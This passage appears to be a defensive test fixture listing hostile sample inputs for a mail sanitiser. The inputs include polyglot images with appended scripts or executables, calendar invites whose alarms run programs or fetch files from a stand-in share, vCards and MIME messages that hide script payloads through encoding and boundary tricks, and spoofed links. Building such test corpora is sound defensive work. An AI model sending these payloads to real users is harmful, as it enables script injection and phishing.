  ['IPTC', jpeg(segment('\xed', 'Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x05\x1c\x02\x05\0\x01x')), 'image/jpeg'],
  ['ICC profile', jpeg(segment('\xe2', `ICC_PROFILE\0\x01\x01${'\x90'.repeat(300)}`)), 'image/jpeg'],
  ['unknown segment', jpeg(segment('\xeb', 'MZ\x90\0 payload')), 'image/jpeg'],
  ['archive behind', jpeg('', latinText(makeZip([{ name: 'x.exe', body: EXE }]))), 'image/jpeg'],
  ['page behind', jpeg('', '<html><script>fired()</script>'), 'image/jpeg'],
  ['PDF behind', jpeg('', latinText(makePdf('<< /JS (x) >>'))), 'image/jpeg'],
  ['program behind', jpeg('', 'MZ\x90\0'), 'image/jpeg'],
  ['truncated', jpeg('').subarray(0, 60), 'image/jpeg'],
  ['huge by claim', latin(`${JPEG.start}\xff\xc0\0\x0b\x08\xff\xff\xff\xff\x01\x01\x11\0`), 'image/jpeg'],
  ['PNG', makePng(16, 16), 'image/png'],
  ['PNG with text', makePng(16, 16, { chunks: [['tEXt', utf8('Comment\0<script>fired()</script>')]] }), 'image/png'],
  [
    'PNG with packed text',
    makePng(16, 16, {
      chunks: [['zTXt', new Uint8Array([...utf8('a\0\0'), ...deflateSync(Buffer.alloc(5_000_000))])]],
    }),
    'image/png',
  ],
  [
    'PNG with profile',
    makePng(16, 16, { chunks: [['iCCP', new Uint8Array([...utf8('x\0\0'), ...deflateSync(Buffer.alloc(1_000))])]] }),
    'image/png',
  ],
  ['PNG with EXIF', makePng(16, 16, { chunks: [['eXIf', utf8('MM\0*\0\0\0\x08')]] }), 'image/png'],
  ['PNG with archive behind', makePng(16, 16, { after: makeZip([{ name: 'x.js' }]) }), 'image/png'],
  ['PNG with page behind', makePng(16, 16, { after: utf8('<script>fired()</script>') }), 'image/png'],
  [
    'PNG of a billion pixels',
    latin(`\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x7f\xff\0\0\x7f\xff\x08\x02\0\0\0\0\0\0\0`),
    'image/png',
  ],
  ['PNG broken', makePng(16, 16).subarray(0, 50), 'image/png'],
  ['GIF that is a script', latin('GIF89a/*\0\0\0\0\0\0\0\0*/=1;fired()'), 'image/gif'],
  [
    'GIF with comment',
    latin(
      'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xfe\x18<script>fired()</script>\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
    ),
    'image/gif',
  ],
  ['BMP that is a script', latin(`BM=1;fired()//${'\0'.repeat(60)}`), 'image/bmp'],
  ['WebP broken', latin('RIFF\x20\0\0\0WEBPVP8L\x10\0\0\0/\xff\xff\xff'), 'image/webp'],
  ['TIFF with a circle', latin('II*\0\x08\0\0\0\0\0\x08\0\0\0'), 'image/tiff'],
  ['HEIC that is none', latin('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), 'image/heic'],
  ['drawing called photo', utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="fired()"/>'), 'image/jpeg'],
  ['page called photo', utf8('<html><script>fired()</script></html>'), 'image/jpeg'],
  ['metafile', latin('\xd7\xcd\xc6\x9a\0\0'), 'image/x-wmf'],
  ['icon', latin('\0\0\x01\0\x01\0'), 'image/x-icon'],
  ['nothing', new Uint8Array(0), 'image/jpeg'],
]

function latinText(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('latin1')
}

const event = (...lines: readonly string[]): readonly string[] => [
  'BEGIN:VCALENDAR',
  'VERSION:2.0',
  'METHOD:REQUEST',
  'BEGIN:VEVENT',
  'UID:1',
  'DTSTART:20260601T100000Z',
  'SUMMARY:Follow-up',
  ...lines,
  'END:VEVENT',
  'END:VCALENDAR',
]
const CALENDARS: readonly (readonly [string, readonly string[]])[] = [
  ['script in the text', event(`DESCRIPTION:<script>${RUN}</script>`)],
  ['HTML description', event(`X-ALT-DESC;FMTTYPE=text/html:<html><script>${RUN}</script><img src="${OUT}"></html>`)],
  ['file from elsewhere', event(`ATTACH:${OUT}.exe`)],
  ['file inside', event(`ATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=application/x-msdownload:${base64(EXE)}`)],
  [
    'alarm that starts a program',
    event(
      'BEGIN:VALARM',
      'ACTION:PROCEDURE',
      'TRIGGER:-PT0M',
      'ATTACH;FMTTYPE=application/binary:file:///c:/windows/calc.exe',
      'END:VALARM',
    ),
  ],
  [
    'reminder from a share',
    event(
      'X-MICROSOFT-CDO-REMINDERSOUND:\\\\probe.example\\x.wav',
      'BEGIN:VALARM',
      'ACTION:AUDIO',
      'ATTACH;VALUE=URI:\\\\probe.example\\x.wav',
      'END:VALARM',
    ),
  ],
  ['link', event(`URL:javascript:${RUN}`, `CONFERENCE;VALUE=URI:${OUT}`, `LOCATION:${OUT}`)],
  ['folded link', event('DESCRIPTION:see htt', ' ps://probe.exam', ' ple/x')],
  ['turned text', event('SUMMARY:Dr \u202emoc.live\u202c')],
  ['many lines', event(...Array.from({ length: 10_000 }, (_, n) => `X-${n}:y`))],
  ['escapes', event('DESCRIPTION:a\\nb\\,c\\;d\\\\e<b>bold</b>')],
  ['never ends', ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', `DESCRIPTION:${'x'.repeat(100_000)}`]],
]

const CARDS: readonly (readonly string[])[] = [
  ['BEGIN:VCARD', 'FN:Dr Anna', `URL:javascript:${RUN}`, `PHOTO:${OUT}.jpg`, 'END:VCARD'],
  ['BEGIN:VCARD', `FN:<script>${RUN}</script>`, `NOTE:<img src="${OUT}">`, 'END:VCARD'],
  ['BEGIN:VCARD', 'FN:\u202eanna\u202c', `SOURCE:${OUT}`, `SOUND:${OUT}`, 'END:VCARD'],
  ['BEGIN:VCARD', `PHOTO;ENCODING=b;TYPE=PNG:${base64(makePng(4, 4))}`, `KEY;VALUE=uri:${OUT}`, 'END:VCARD'],
]

const evil = `<script>${RUN}</script><img src="${OUT}">`
const MIME: readonly (readonly [string, readonly string[]])[] = [
  ['two types', [...head('Content-Type: text/plain', 'Content-Type: text/html'), '', evil]],
  [
    'two encodings',
    [
      ...head('Content-Type: text/html', 'Content-Transfer-Encoding: 7bit', 'Content-Transfer-Encoding: base64'),
      '',
      base64(evil),
    ],
  ],
  [
    'two boundaries',
    [
      ...head('Content-Type: multipart/mixed; boundary=b; boundary=c'),
      '',
      '--b',
      '',
      'b',
      '--c',
      'Content-Type: text/html',
      '',
      evil,
      '--c--',
      '--b--',
    ],
  ],
  [
    'boundary by pieces',
    [
      ...head('Content-Type: multipart/mixed; boundary*0=b; boundary*1=c'),
      '',
      '--bc',
      'Content-Type: text/html',
      '',
      evil,
      '--bc--',
    ],
  ],
  ['no boundary', [...head('Content-Type: multipart/mixed'), '', '--b', 'Content-Type: text/html', '', evil, '--b--']],
  [
    'other boundary',
    [...head('Content-Type: multipart/mixed; boundary=x'), '', '--b', 'Content-Type: text/html', '', evil, '--b--'],
  ],
  [
    'boundary with a space',
    [
      ...head('Content-Type: multipart/mixed; boundary="b "'),
      '',
      '--b ',
      'Content-Type: text/html',
      '',
      evil,
      '--b --',
    ],
  ],
  [
    'boundary never closed',
    [...head('Content-Type: multipart/mixed; boundary=b'), '', '--b', 'Content-Type: text/html', '', evil],
  ],
  [
    'parts behind the end',
    [
      ...head('Content-Type: multipart/mixed; boundary=b'),
      '',
      '--b',
      '',
      'x',
      '--b--',
      '--b',
      'Content-Type: text/html',
      '',
      evil,
      '--b--',
    ],
  ],
  [
    'page in the preamble',
    [...head('Content-Type: multipart/mixed; boundary=b'), '', evil, '--b', '', 'x', '--b--', evil],
  ],
  [
    'encoded multipart',
    [
      ...head('Content-Type: multipart/mixed; boundary=b', 'Content-Transfer-Encoding: base64'),
      '',
      base64(`--b\r\nContent-Type: text/html\r\n\r\n${evil}\r\n--b--`),
    ],
  ],
  ['unknown encoding', [...head('Content-Type: text/html', 'Content-Transfer-Encoding: x-uuencode'), '', evil]],
  [
    'base64 with junk',
    [...head('Content-Type: text/html', 'Content-Transfer-Encoding: base64'), '', base64(evil).split('').join('!')],
  ],
  [
    'base64 twice',
    [...head('Content-Type: text/html', 'Content-Transfer-Encoding: base64'), '', base64('hello'), base64(evil)],
  ],
  [
    'quoted-printable odd',
    [
      ...head('Content-Type: text/html', 'Content-Transfer-Encoding: quoted-printable'),
      '',
      '=3Cscr=\r\nipt=3Efired()=3C/script=3E=ZZ=',
    ],
  ],
  ['UTF-7', [...head('Content-Type: text/html; charset=utf-7'), '', '+ADw-script+AD4-fired()+ADw-/script+AD4-']],
  [
    'UTF-16',
    [
      ...head('Content-Type: text/html; charset=utf-16le', 'Content-Transfer-Encoding: base64'),
      '',
      Buffer.from(evil, 'utf16le').toString('base64'),
    ],
  ],
  ['UTF-32', [...head('Content-Type: text/html; charset=utf-32'), '', evil]],
  ['ISO-2022', [...head('Content-Type: text/html; charset=iso-2022-jp'), '', `\x1b$B<script>\x1b(B${evil}`]],
  ['HZ', [...head('Content-Type: text/html; charset=hz-gb-2312'), '', `~{<~}${evil}`]],
  ['x-user-defined', [...head('Content-Type: text/html; charset=x-user-defined'), '', evil]],
  [
    'overlong UTF-8',
    [...head('Content-Type: text/html; charset=utf-8'), '', '\xc0\xbcscript\xc0\xbefired()\xc0\xbc/script\xc0\xbe'],
  ],
  ['charset in quotes', [...head('Content-Type: text/html; charset="utf-8\\"; x=\\""'), '', evil]],
  ['type without subtype', [...head('Content-Type: text'), '', evil]],
  ['type with junk', [...head('Content-Type: text/html;;; = ;"'), '', evil]],
  ['type is a comment', [...head('Content-Type: (text/plain) text/html (x)'), '', evil]],
  [
    'alternative with a lie',
    [
      ...head('Content-Type: multipart/alternative; boundary=b'),
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'All is well.',
      '--b',
      'Content-Type: text/html',
      '',
      evil,
      '--b--',
    ],
  ],
  [
    'alternative with AMP',
    [
      ...head('Content-Type: multipart/alternative; boundary=b'),
      '',
      '--b',
      '',
      'x',
      '--b',
      'Content-Type: text/x-amp-html',
      '',
      `<!doctype html><html amp4email><script>${RUN}</script>`,
      '--b--',
    ],
  ],
  [
    'related with a page',
    [
      ...head('Content-Type: multipart/related; boundary=b; start="<s@x>"'),
      '',
      '--b',
      '',
      'x',
      '--b',
      'Content-Type: text/html',
      'Content-ID: <s@x>',
      'Content-Location: https://probe.example/',
      '',
      evil,
      '--b--',
    ],
  ],
  [
    'nested message',
    [
      ...head('Content-Type: message/rfc822'),
      '',
      'From: x@y.example',
      `Subject: <script>${RUN}</script>`,
      'Content-Type: text/html',
      '',
      evil,
    ],
  ],
  [
    'nested, encoded',
    [
      ...head('Content-Type: message/rfc822', 'Content-Transfer-Encoding: base64'),
      '',
      base64(`From: x@y.example\r\nContent-Type: text/html\r\n\r\n${evil}`),
    ],
  ],
  [
    'nested, twenty deep',
    [
      ...head(),
      ...Array.from({ length: 20 }, () => ['Content-Type: message/rfc822', '', 'From: x@y.example']).flat(),
      'Content-Type: text/html',
      '',
      evil,
    ],
  ],
  [
    'too deep',
    [
      ...head(),
      ...Array.from({ length: 80 }, () => ['Content-Type: message/rfc822', '', 'From: x@y.example']).flat(),
      '',
      evil,
    ],
  ],
  [
    'partial',
    [...head('Content-Type: message/partial; id=x; number=1; total=2'), '', 'Content-Type: text/html', '', evil],
  ],
  [
    'external body',
    [
      ...head('Content-Type: message/external-body; access-type=URL; URL="https://probe.example/x.exe"'),
      '',
      'Content-Type: application/octet-stream',
      '',
      '',
    ],
  ],
  [
    'external body by mail server',
    [
      ...head('Content-Type: message/external-body; access-type=mail-server; server="x@probe.example"'),
      '',
      'Content-Type: text/html',
      '',
      evil,
    ],
  ],
  ['uuencoded', [...head(), '', 'begin 644 photo.exe', '#35J0', '`', 'end']],
  [
    'binhex',
    [...head('Content-Type: application/mac-binhex40'), '', '(This file must be converted with BinHex 4.0)', ':x:'],
  ],
  ['enriched', [...head('Content-Type: text/enriched'), '', `<bold>x</bold><param>${evil}</param>`]],
  ['markdown', [...head('Content-Type: text/markdown'), '', `[x](javascript:${RUN}) ![y](${OUT})`]],
  ['no blank line', ['From: ann@mail.example', '<html><script>fired()</script>']],
  ['header ends by boundary', [...head('Content-Type: text/html'), '--b', '', evil]],
  ['bare carriage returns', ['From: ann@mail.example\rContent-Type: text/html\r\r<script>fired()</script>', '', evil]],
  ['nulls', ['From: ann@mail.example', 'Subject: a\0b', 'Content-Type: text/html\0', '', `\0${evil}\0`]],
  ['10,000 parts', [...head('Content-Type: multipart/mixed; boundary=b'), '', ...Array(10_000).fill('--b\r\n\r\nx')]],
  ['mbox line', ['From x@y Thu Jan 1 00:00:00 2026', ...head('Content-Type: text/html'), '', evil]],
  [
    'signed',
    [
      ...head('Content-Type: multipart/signed; boundary=b; protocol="application/pkcs7-signature"'),
      '',
      '--b',
      'Content-Type: text/html',
      '',
      evil,
      '--b',
      'Content-Type: application/pkcs7-signature; name=smime.p7s',
      '',
      'x',
      '--b--',
    ],
  ],
  [
    'opaque S/MIME',
    [
      ...head(
        'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m',
        'Content-Transfer-Encoding: base64',
      ),
      '',
      base64(evil),
    ],
  ],
  [
    'report',
    [
      ...head('Content-Type: multipart/report; boundary=b; report-type=delivery-status'),
      '',
      '--b',
      '',
      evil,
      '--b',
      'Content-Type: message/delivery-status',
      '',
      `Diagnostic-Code: ${evil}`,
      '--b',
      'Content-Type: text/rfc822-headers',
      '',
      `Subject: ${evil}`,
      '--b--',
    ],
  ],
]

const HEADINGS: readonly (readonly [string, readonly string[]])[] = [
  ['script in the name', [`From: "<script>${RUN}</script>" <x@y.example>`, 'Subject: x']],
  ['script in the address', [`From: <"<script>${RUN}</script>"@y.example>`, 'Subject: x']],
  ['script in the subject', ['From: x@y.example', `Subject: </title><script>${RUN}</script>`]],
  [
    'encoded script in the subject',
    ['From: x@y.example', `Subject: =?utf-8?b?${Buffer.from(`</h1><script>${RUN}</script>`).toString('base64')}?=`],
  ],
  ['turned subject', ['From: x@y.example', 'Subject: =?utf-8?b?4oCubW9jLmtuYWI=?=']],
  ['line break in the subject', ['From: x@y.example', 'Subject: =?utf-8?q?a=0D=0AFrom:_bank=40z.example?=']],
  ['terminal in the name', ['From: "\u001b]0;x\u0007\u001b[2J" <x@y.example>', 'Subject: x']],
  ['long subject', ['From: x@y.example', `Subject: ${'x'.repeat(100_000)}`]],
  [
    'thousand recipients',
    ['From: x@y.example', `To: ${Array.from({ length: 1_000 }, (_, n) => `a${n}@z.example`).join(', ')}`, 'Subject: x'],
  ],
  ['date with markup', ['From: x@y.example', `Date: <script>${RUN}</script>`, 'Subject: x']],
  ['reply with markup', ['From: x@y.example', `Reply-To: "<img src=${OUT}>" <"<b>"@z.example>`, 'Subject: x']],
  ['lone halves', ['From: x@y.example', 'Subject: =?utf-8?b?7aC9?= half']],
]

const PLAIN: Named = [
  ['script', `<script>${RUN}</script>`],
  ['link', `${OUT} and ${OUT}?<script>`],
  ['javascript', `javascript:${RUN} data:text/html,x`],
  ['foreign letters', 'https://xn--pypal-4ve.com/login and https://pаypal.com'],
  ['user name', 'https://clinic.example@probe.example/x'],
  ['long link', `https://probe.example/${'a'.repeat(5_000)}`],
  ['many links', `${OUT} `.repeat(2_000)],
  ['turned link', 'https://\u202eelpmaxe.eborp\u202c/x'],
  ['entities', '&lt;script&gt;fired()&lt;/script&gt; &#60;b&#62;'],
  ['terminal', '\u001b[31mred\u001b[0m \u009b2J \u0007'],
  ['60 KB without a space', 'x'.repeat(60_000)],
]
